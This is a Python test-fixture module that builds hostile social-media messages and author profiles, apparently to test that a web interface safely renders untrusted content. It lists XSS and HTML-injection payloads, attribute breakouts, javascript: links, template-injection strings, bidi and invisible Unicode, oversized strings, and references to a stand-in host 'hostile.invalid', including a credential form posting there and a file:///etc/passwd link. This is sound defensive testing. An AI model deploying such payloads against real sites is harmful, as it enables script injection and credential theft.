"""Texts, names and links made to break a page: markup, scripts, directions, giants, invisible signs."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from itertools import cycle

from core import db
from core.event import Attachment, Author, Event, Link

EVIL = "hostile.invalid"
"""A host that no page may ever ask; whatever a message can make of itself is called `pwned`."""

MARKUP = (
    "<script>window.pwned=1</script>",
    "<script src=//hostile.invalid/x.js></script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://hostile.invalid/pixel.png>",
    "<svg/onload=window.pwned=1>",
    "<pwned data-pwned=1>bold</pwned>",
    "</p></article></main></body></html><pwned>",
    "</textarea></title></style></script><pwned>",
    "<!-- never closed",
    "<![CDATA[ <pwned> ]]>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//hostile.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//hostile.invalid/'>",
    "<base href=//hostile.invalid/>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<form action=//hostile.invalid/><input name=csrf><button>Sign in</button></form>",
    "<a href=javascript:window.pwned=1>press</a>",
    "&lt;pwned&gt; &amp;lt;pwned&amp;gt; &#60;pwned&#62;",
    "\x3cpwned\x3e ＜pwned＞",
    "<PwNeD\n/data-pwned\n=\n1>",
)
QUOTES = (
    '" onmouseover="window.pwned=1',
    "' onfocus='window.pwned=1' autofocus='",
    '"><pwned data-pwned="1',
    "` onclick=window.pwned=1 `",
    "' hx-get='//hostile.invalid/' hx-trigger='load",
    '" data-pwned="1" class="toast',
    '\\"><pwned>',
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "%(name)s %s %% %d {0} {name}",
)
LINKS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    " javascript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:window.pwned=1",
    "//hostile.invalid/",
    'https://user:secret@hostile.invalid/" onclick="window.pwned=1',
    "https://xn--80ak6aa92e.example/\u202egnp.exe",
    "blob:https://hostile.invalid/1",
    "file:///etc/passwd",
)
DIRECTIONS = (
    "\u202egnirts desrever",
    "\u202e\u202d\u202c\u202a\u202b never closed",
    "\u2067שלום\u2068 isolate never closed",
    "\u2069\u2069\u202c closed too often \u202e",
    "مرحبا بالعالم 123 (a) [b]",
    "\u200f\u200e\u061c marks \u202e",
    "עברית <b>English</b> עברית",
)
SIGNS = (
    "Z\u0351\u036b\u0343\u036a\u0342\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 20,
    "\u0e49" * 400 + "tall",
    "a\u200b\u200c\u200d\u2060\ufeffb" * 50,
    "\u200b",
    "\u3164\u115f\u1160\u2800",
    "👩‍👩‍👧‍👦" * 60,
    "👨🏽‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪🇯🇵" * 30,
    "🏳️‍🌈\u20e3\ufe0f\ufe0e" * 30,
    "\x00NUL\x00\x01\x02\x1b[31m\x7f\x85\u2028\u2029",
    "\ud83d lone \udc00",
    "\U0010ffff\ufffe\uffff\ufdd0",
    "Ｆｕｌｌ　ｗｉｄｔｈ　" * 40,
    "ﷺ﷽𒐫𒈙⸻" * 30,
    "\r\n\r\n\t\v\f" * 200 + "far below",
)
GIANTS = (
    "W" * 1_000_000,
    "ｗ" * 1_000_000,
    "wort-" * 60_000,
    "https://hostile.invalid/" + "a" * 4000,
    "寿限無" * 30_000,
    "\u202e" * 5000 + "x",
    "👍" * 20_000,
)
TEXTS = (*MARKUP, *QUOTES, *LINKS, *DIRECTIONS, *SIGNS)
PLATFORMS = ("mastodon", "bluesky", "telegram")


def _short(text: str) -> str:
    return text[:600]


def person(number: int) -> Author:
    """Somebody of whom every word is hostile."""
    name, handle, bio = TEXTS[number % len(TEXTS)], TEXTS[number * 7 % len(TEXTS)], TEXTS[number * 11 % len(TEXTS)]
    link = LINKS[number % len(LINKS)]
    return Author(
        platform=PLATFORMS[number % 3], id=f"https://{EVIL}/users/{number}", handle=_short(handle) or "x", name=name,
        url=link, avatar_url=f"https://{EVIL}/{number}.png", bio=bio * 3, location=TEXTS[number * 13 % len(TEXTS)],
        links=(Link(url=link, label=name),), followers=number * 10**9, language=("en", "ar", "ja")[number % 3],
    )  # fmt: skip


def events(count: int) -> Iterator[tuple[str, Event]]:
    """(platform, message): each in a thread of four, every part of it hostile; a giant now and then."""
    giants = cycle(GIANTS)
    moment = db.now()
    for number in range(count):
        author = person(number // 4 % 400)
        text = next(giants) if number % 500 == 7 else TEXTS[number % len(TEXTS)] + f" {TEXTS[number * 3 % len(TEXTS)]}"
        thread = f"{author.platform}:h{number // 4}"
        yield author.platform, Event(
            key=f"{author.platform}:hostile:{number}", platform=author.platform, author=author, text=text,
            kind="dm" if number // 4 % 5 == 4 else ("mention", "reply", "quote", "review")[number % 4],
            visibility="private" if number // 4 % 5 == 4 else "public",
            posted_at=moment - timedelta(seconds=number), language=("en", "ar", "he", "ja", "x\"><pwned>")[number % 5],
            parent_key=f"{author.platform}:hostile:{number - 1}" if number % 4 else None, thread_key=thread,
            url=LINKS[number % len(LINKS)], ref=QUOTES[number % len(QUOTES)],
            subject=TEXTS[number * 5 % len(TEXTS)][:300],
            hashtags=(TEXTS[number % len(TEXTS)][:80], "pwned"),
            attachments=(
                Attachment(kind=("image", "video", "link", "unknown")[number % 4], url=LINKS[number % len(LINKS)],
                           alt=TEXTS[number * 2 % len(TEXTS)][:300], mime=QUOTES[number % len(QUOTES)]),
            ),
        )  # fmt: skip
